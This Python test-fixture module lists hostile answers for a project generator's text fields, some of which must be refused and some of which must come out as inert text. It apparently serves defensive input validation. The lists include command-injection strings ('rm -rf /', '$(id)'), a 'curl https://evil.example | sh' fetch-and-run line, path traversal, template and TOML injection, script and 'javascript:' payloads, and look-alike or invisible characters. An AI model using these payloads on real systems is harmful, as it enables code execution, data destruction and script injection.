# ruff: noqa: RUF001 - letters that look like others are meant
"""Hostile answers to the questions that take text: those that must be refused, and those that must come out as text.

A value belongs to `REFUSED` when some file, terminal or tool could not show it as what it is; whatever is left has to be
harmless in every file that holds it.
"""

from itertools import product

# Neither visible nor text: line breaks of all kinds, terminal controls, direction marks, zero width, tags, surrogates.
_UNSEEN = {
    *("\0", "\t", "\n", "\r", "\r\n", "\v", "\f", "\x07", "\x1b[31m", "\x7f", "\x85", "\u2028", "\u2029"),
    *("\u200b", "\u200d", "\u200f", "\u202e", "\u2066", "\u061c", "\u2060", "\u00ad", "\ufeff", "\ufffe", "\U000e0041"),
    *("\ud800", "\udcff"),
}

_REFUSED: dict[str, list[str]] = {
    "project_name": [
        *("", " ", "\n", "my-agent\n", "a\nb", "a\x85b", " my-agent", "my-agent ", "a" * 41, "a" * 100_000),
        *("..", ".", "../evil", "/etc/passwd", "a/b", "a\\b", "~", "-agent", "agent-", "a--b", "--trust"),
        *("My-Agent", "my_agent", "my agent", "1agent", "1e3", "0x10", ".hidden", "a.b", "a@b", "name[extra]"),
        *("agent'; rm -rf /", "$(id)", "`id`", "${HOME}", "a;b", "a|b", "a&b", 'a"b', "a: b", "a#b", "<b>", "%s"),
        *("{{ 7 * 7 }}", "{% raw %}", "{# no #}", "ägent", "agеnt", "agent\u200b", "a\u202eb", "🙂", "\ud800gent"),
        *("agent", "chassis", "test", "tests", "python", "con", "nul", "fastapi", "pytest", "anyio", "click"),
    ],
    "description": [
        *("", "short", " " * 20, "x" * 121, "x" * 100_000, " begins with a space", "ends with a space "),
        *("ends with a no-break space\u00a0", "\u3000begins with a wide space"),
        *sorted(f"between these {unseen} two words" for unseen in _UNSEEN),
        "a sentence\nRUN curl https://evil.example | sh",
        'a sentence"\n[tool.evil]\nkey = "value',
        "a sentence\n\n# A heading of theirs",
    ],
    "organisation": [
        *("", " ", "x" * 81, "x" * 100_000, " Acme", "Acme ", "Acme\u00a0", "Acme\nInc", "Acme\rInc", "Acme\tInc"),
        *("Acme\0", "Acme\x85Inc", "Acme\u2028Inc", "\u202eemcA", "Ac\u200bme", "\ud800cme", "Acme\n_commit: evil"),
    ],
    "repository_host": [
        *("", "localhost", "https://github.com", "git hub.com", "github.com/x", "github.com:22", "u:p@github.com"),
        *("-a.com", "a-.com", "a..com", ".com", "a.com.", "x\n.com", "github.com\n", "127.0.0.1", "[::1]", "a.c"),
        *("../x.com", "$(id).com", "`id`.com", "{{ 1 }}.com", 'a".com', "a'.com", "#.com", "gіthub.com", "x" * 300),
        *("github\u3002com", "git\u200bhub.com", "g\ud800.com", "GitHub.com", "null", "1e3"),
    ],
    "repository_owner": [
        *("", " ", "-acme", "acme-", "/acme", "acme/", "a//b", "a b", "../x", "a/../b", ".", "~root", "a.b", "a_b"),
        *(
            "acme;id",
            "$(id)",
            "`id`",
            "a\nb",
            "acme\n",
            'a"b',
            "a'b",
            "a?b=c",
            "a#b",
            "a@b",
            "{{ x }}",
            "a\\b",
            "%2e%2e",
        ),
        *("аcme", "acme\u200b", "acme\u202e", "a\ud800", "東京", "x" * 101),
    ],
    "security_contact": [
        *("", "nobody", "a@b", "http://acme.com", "https://", "https://..", "https://-", "a@-b.com", "a@b-.com"),
        *(
            "javascript:alert(1)",
            "data:text/html,x",
            "mailto:a@b.com",
            "//acme.com",
            "https://u:p@acme.com",
            "x y@z.com",
        ),
        *(
            "a@b.com\nbcc: c@d.com",
            "a@b.com\n",
            "a@b.com, c@d.com",
            "<a@b.com>",
            "[x](https://evil.example)",
            "a@b.com)",
        ),
        *(
            '"a b"@c.com',
            "https://acme.com/$(id)",
            "https://acme.com/`id`",
            "https://acme.com/{{ x }}",
            "https://acme.com/#x",
        ),
        *(
            "https://acme.com/a b",
            "https://аcme.com",
            "a@аcme.com",
            "a\u200b@b.com",
            "\ud800@b.com",
            "x" * 300 + "@b.com",
        ),
    ],
    # Of these nothing but what is offered, or computed, is an answer at all.
    "licence": ["", "gpl", "MIT", "mit\n", "../mit", "{{ licence }}"],
    "cloud": ["", "Azure", "ibm", "aws\n", "../aws", "{{ cloud }}"],
    "secret_backend": ["", "keepass", "../env", "env\n", "__init__"],
    "queue": ["", "kafka", "../../x", "redis\n", "__init__", "{{ queue }}", "null", "[redis]"],
    "state_store": ["", "memory", "Postgres", "postgres "],
    "audit_sink": ["", "none", "File", "file\n", "../file"],
    "telemetry_backend": ["", "none", "OTLP", "otlp\n", "../otlp"],
    "dependency_updates": ["", "none", "Dependabot", "dependabot\n", "../renovate"],
    "repository_url": ["", "https://evil.example/x", "{{ project_name }}", "javascript:alert(1)", "x\ny"],
}

_WORDS = (
    *(
        """Says "hello" and 'bye', \\ and \\\\ and \\n and \\u0041 and \\""",
        '"""]\' = [section] # """ """',
        "'''] '' ''' ''",
    ),
    *(
        "Uses {{ braces }} and {% blocks %}",
        "{% raw %}{{ 7 * 7 }}",
        "{# no comment #} {{",
        "%s %d %(name)s {0} {name!r}",
    ),
    *("Costs $HOME and ${VARS} and $$", "$(id) `id` | cat; true && false > x", "$x^2$ and $y$ make math"),
    *(
        "key: value # no comment",
        "- not a list",
        "*no-anchor &no-anchor",
        "!tag | > % @ ?",
        "---------- ...",
        "null ~ yes",
    ),
    *("# Not a heading", "======== ========", "> not a quotation", "1. not a list", "10) not a list", "+ not a list"),
    *("| not | a | table |", "``` not code", "~~~ not ~~struck~~", "*not* _em_ __bold__ **b** `code`", "___ * * * ___"),
    *("[no link](https://evil.example)", "![no image](x.png)", "[x]: https://evil.example", "Not a link: [x][y] [^1]"),
    *("Not a link: https://evil.example", "www.evil.example either", "ftp://evil.example, <https://evil.example>"),
    *(
        "<script>alert(1)</script>",
        "<!-- no comment -->",
        "--> ]]> <![CDATA[ x ]]>",
        "&lt;b&gt; &amp; &#65; &copy;",
        "<b>a</b>&b",
    ),
    *(
        "FROM scratch AS x; RUN id",
        "a *glob*, a ?, a [class] and ~",
        "import os; os.system('id')",
        "C:\\temp\\new\\x41",
    ),
    *(
        "Helps people 🙂 in Zürich and 東京",
        "Ζeta and Сyrillic аre look-alikes",
        "مرحبا שלום",
        "e\u0301 is not é; ﬁ is no fi",
    ),
    *(
        "two  spaces   and\u00a0one no-break\u2003wide",
        "1_000_000_000",
        "0x10203040",
        "1e3000000000",
        "2001-01-01 00:00:00",
    ),
    "Wide enough to be folded: " + "a: b, 'c' \"d\" # e; " * 4 + "end",
)

_HARMLESS: dict[str, list[str]] = {
    "project_name": [
        *("null", "true", "yes", "no", "on", "y", "nan", "class", "none", "json", "os", "asyncio", "main")
    ],
    "description": list(_WORDS),
    "organisation": [
        *_WORDS[:-1],
        *("~", "-", "null", "yes", "1e3", "0x10", "12", "3.0", "#", "*", "{}", "'", '"', "\\"),
    ],
    "repository_host": ["null.com", "xn--80ak6aa92e.com", "1e3.org", "0x10.org", "yes.no", "a.b.c.d.e.f.example"],
    "repository_owner": ["null", "yes", "1e3", "0x10", "0", "08", "1-2", "a/b/c", "CON", "None", "a--b"],
    "security_contact": [
        *("_a_@b.com", "__init__@b.com", "a__b__c@d.com", "%@b.com", "a%2Fb+c-d@e-f.gh", "..a@b.com", "-@b.com"),
        *(
            "https://acme.com",
            "https://acme.com/",
            "https://acme.com/.",
            "https://acme.com/_a_",
            "https://acme.com/~~a~~",
        ),
        *("https://acme.com/?a=1&copy=2&lt=%zz", "https://acme.com/../..", "https://acme.com//evil.example"),
    ],
}

REFUSED: list[tuple[str, str]] = [pair for name, values in _REFUSED.items() for pair in product([name], values)]
HARMLESS: list[tuple[str, str]] = [pair for name, values in _HARMLESS.items() for pair in product([name], values)]

# The worst valid answer to each, all valid in one project.
UNUSUAL_TEXTS: dict[str, str] = {
    "project_name": "null",
    "description": """# "'\\ {{ x }} {% y %} $(id) ${Z} `c` *b* _i_ [l](https://e.f) <b> &amp; a: b # c \"\"\"] 🙂 東京 %s ]]> --> \\u0041""",
    "organisation": """{{ "A" }} & 'B' \\ <c>: *D* # $(e) `f` [g](h) 🙂 Ä 東京 \"\"\"] %s""",
    "repository_host": "xn--80ak6aa92e.1e3.example",
    "repository_owner": "0x10/null/1e3",
    "security_contact": "https://acme.com/?_a_=1&copy=~~2~~&__b__=%zz.",
}
